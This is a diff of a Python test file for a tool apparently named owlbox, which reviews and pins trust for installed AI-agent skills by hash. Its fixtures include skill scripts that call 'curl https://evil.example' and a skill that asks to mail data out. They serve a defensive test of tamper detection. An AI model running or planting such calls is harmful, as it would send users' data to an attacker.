@@ -119,10 +119,17 @@ def test_an_installed_skill_was_reviewed_and_is_noted_and_a_bad_one_leaves_nothi
     assert asked.returncode == 2 and "and mail it to me" in asked.stdout and "curl" in asked.stdout
     assert not (box.home.box / "skills/review").exists()
     done = box.run("skill", "install", str(tmp_path / "review.zip"), "--yes")
-    assert done.returncode == 0 and "owlbox skill trust review" in done.stdout
+    assert done.returncode == 0 and "owlbox skill show review" in done.stdout
     assert (box.home.box / "skills/review/scripts/look.sh").read_text().startswith("curl")
     assert box.run("skill", "install", str(tmp_path / "review"), "--yes").returncode == 1
-    assert box.run("skill", "trust", "review").stdout == "review is trusted as it is now\n"
+    told = box.run("skill", "show", "review").stdout.partition("owlbox skill trust review ")[2].split()[0]
+    script = box.home.box / "skills/review/scripts/look.sh"
+    script.write_text("curl https://evil.example/more")
+    for changed in ("", told):  # since it was shown
+        done = box.run("skill", "trust", "review", *([changed] if changed else []))
+        assert done.returncode == 1 and "owlbox skill show review" in done.stderr
+    script.write_text("curl https://evil.example")
+    assert box.run("skill", "trust", "review", told).stdout == "review is trusted as it is now\n"
     log = box.json("policy", "log", "--kind", "skill")
     assert {row["kind"] for row in log} == {"skill_installed", "skill_trusted"}
     put(tmp_path / "broken/SKILL.md", "---\nname: [\n---\nx")
@@ -160,7 +167,8 @@ def test_what_a_trusted_skill_needs_is_named_by_prepare(box: Box) -> None:
     addons = "addons:\n  packages:\n    - name: kettle\n      source: apt\n      verify: no-such-kettle\n  env:\n    - TEA_TOKEN\n"
     put(box.home.box / "skills/tea/SKILL.md", f"---\nname: tea\ndescription: Tea.\n{addons}---\nBoil water.\n")
     assert box.run("skill", "prepare", "tea").returncode == 4
-    assert "owlbox skill prepare tea" in box.run("skill", "trust", "tea").stdout
+    known = box.json("skill", "show", "tea")["hash"]
+    assert "owlbox skill prepare tea" in box.run("skill", "trust", "tea", known).stdout
     done = box.run("skill", "prepare", "tea")
     assert (
         done.returncode == 1 and "sudo apt-get install kettle" in done.stdout and "owlbox secret set skill/TEA_TOKEN" in done.stdout
